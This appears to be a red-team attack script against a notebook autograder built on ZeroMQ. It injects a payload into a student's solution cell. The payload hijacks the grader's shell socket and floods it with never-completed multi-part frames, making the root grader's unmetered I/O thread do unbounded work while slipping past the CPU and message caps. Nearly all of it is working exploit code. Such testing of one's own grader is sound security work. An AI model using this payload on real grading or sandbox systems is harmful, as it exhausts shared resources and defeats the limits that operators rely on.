"""a01: re-attack of rounds 19-20's fixes (the grader's CPU for reading kernel messages is capped at 5 s, measured
on the thread that receives; a message may have at most 64 parts). ZeroMQ delivers a multi-part message atomically:
the grader's receiving thread sees none of its parts until the last has arrived. libzmq's own I/O thread (a thread
of the grading process, root, outside the sandbox's CPU share, which nothing measures) decodes and stores every part
as it comes. The kernel finds its side of the grader's shell connection (a Unix socket, found as round 20's user a03
found IOPub's; on shell the kernel itself writes nothing while a cell runs, so nothing completes the message: on
IOPub, try 2, a message the kernel published finished the unfinished one and the 64-part cap caught it)
and writes ZMTP bytes itself: CHUNK empty frames all flagged MORE (2 bytes each, one 8 MB write), then a frame
shuts the connection down (a protocol error, such as a frame past MAXMSGSIZE, would end the grader's session for
good; an ended connection is reconnected). The grader's I/O thread decodes the CHUNK parts, then rolls the unfinished
message back (its memory is freed: the 2 GiB cap is never reached) and reconnects 100 ms later; the kernel finds the new connection and does it again, for DUR s of one cell.
No message is ever complete, so the message count (20,000) and the 5 s reading cap see nothing.
Through `python -m grader.grade --course-dir DIR --workers 1`, mallory + an honest student (control)."""
import os, sys, threading, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common21 import *  # noqa
from common21 import _descends, GRADER, ROOT  # noqa

A = "ps1_memory"
CHUNK = int(os.environ.get("CHUNK", "8000000"))
DUR = float(os.environ.get("DUR", "100"))

PAYLOAD = f'''
def __unfinished(chunk={CHUNK}, dur={DUR}):
    import os, socket, select, time, struct
    from ipykernel.kernelapp import IPKernelApp
    app = IPKernelApp.instance()
    path = "%s-%s" % (app.ip, app.shell_port)
    def conns():
        fds = []
        for name in os.listdir("/proc/self/fd"):
            fd = int(name)
            try:
                if not os.readlink("/proc/self/fd/%d" % fd).startswith("socket:"):
                    continue
                s = socket.socket(fileno=os.dup(fd))
            except OSError:
                continue
            try:
                if s.family == socket.AF_UNIX and s.getsockname() == path:
                    try:
                        s.getpeername(); fds.append(fd)
                    except OSError:
                        pass
            finally:
                s.close()
        return fds
    wire = b"\\x01\\x00" * chunk
    t0, cycles, frames = time.time(), 0, 0
    while time.time() - t0 < dur:
        fds = conns()
        if not fds:
            time.sleep(0.02); continue
        for fd in fds:
            view = memoryview(wire)
            while view and time.time() - t0 < dur + 5:
                select.select([], [fd], [], 1)
                try:
                    view = view[os.write(fd, view):]
                except BlockingIOError:
                    pass
                except OSError:
                    break
            try:  # end the connection: the grader rolls the unfinished message back and reconnects
                so = socket.socket(fileno=os.dup(fd)); so.shutdown(socket.SHUT_RDWR); so.close()
            except OSError:
                pass
            cycles += 1; frames += chunk
        time.sleep(0.05)  # the grader reconnects after its reconnect interval (100 ms)
    time.sleep(1.0)
    return cycles, frames
__r = __unfinished()
print("cycles, unfinished parts written:", __r)
'''


def hostile():
    def mutate(nb):
        for c in nb.cells:
            if c.cell_type == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                c.source += "\n" + PAYLOAD
                break
    return notebook(mutate=mutate, assignment=A)


class Threads(threading.Thread):
    """CPU seconds per thread of the grading command's processes (which thread of the grader pays)."""

    def __init__(self):
        super().__init__(daemon=True)
        self.stop, self.seen = False, {}

    def run(self):
        while not self.stop:
            top = GRADER.get("pid")
            for p in os.listdir("/proc"):
                if not p.isdigit() or top is None or not _descends(int(p), top):
                    continue
                try:
                    uid = next(int(l.split()[1]) for l in open(f"/proc/{p}/status") if l.startswith("Uid:"))
                    cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")[:60]
                    for t in os.listdir(f"/proc/{p}/task"):
                        st = open(f"/proc/{p}/task/{t}/stat").read().rsplit(")", 1)[1].split()
                        comm = open(f"/proc/{p}/task/{t}/comm").read().strip()
                        ticks = int(st[11]) + int(st[12])
                        key = (p, t)
                        old = self.seen.get(key, (0,))[0]
                        self.seen[key] = (max(old, ticks), "grader" if uid == 0 else "sandbox", comm, cmd.replace(ROOT, "<clone>"))
                except (OSError, StopIteration):
                    continue
            time.sleep(0.5)

    def show(self):
        tck = os.sysconf("SC_CLK_TCK")
        for (p, t), (ticks, side, comm, cmd) in sorted(self.seen.items(), key=lambda kv: -kv[1][0])[:10]:
            print(f"   {side:7s} {ticks / tck:7.1f} CPU-s  thread {comm!r:16s} of {cmd}")


def main():
    import threading as _t  # noqa
    th = Threads()
    th.start()
    r = r18_runner("/tmp/attack21-a01-", A)
    h = honest(A)
    if os.environ.get("BASE"):
        r.run("base", {"aa_honest": h, "zz_honest": h}, 1)
    original_cleanup = r.cleanup

    def show_then_cleanup(dest):
        nbp = os.path.join(dest, "autograded", "mallory", A, f"{A}.ipynb")
        if os.path.exists(nbp):
            import json as _json
            for c in _json.load(open(nbp))["cells"]:
                for o in c.get("outputs", []):
                    if "unfinished parts" in str(o.get("text", "")):
                        print("mallory's cell printed:", str(o.get("text"))[:300])
        rp = os.path.join(dest, "grading_report.json")
        if os.path.exists(rp):
            print(open(rp).read()[:3000])
        original_cleanup(dest)

    r.cleanup = show_then_cleanup
    r.run("unfinished", {"mallory": hostile(), "zz_honest": h}, 1)
    th.stop = True
    print("busiest threads of the grading command (max over the run):")
    th.show()


if __name__ == "__main__":
    main()
